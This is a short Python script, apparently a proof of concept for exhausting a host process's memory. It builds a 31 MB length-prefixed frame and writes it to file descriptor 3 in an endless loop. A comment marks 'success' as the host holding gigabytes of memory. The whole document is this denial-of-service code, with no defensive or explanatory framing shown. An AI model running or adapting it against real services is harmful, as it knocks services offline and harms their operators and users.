# success: the host keeps gigabytes
# slow
import os, struct
frame = struct.pack("<I", 31 << 20) + b"\x1a" + b"\xff" * ((31 << 20) - 1)
while True:
    os.write(3, frame)
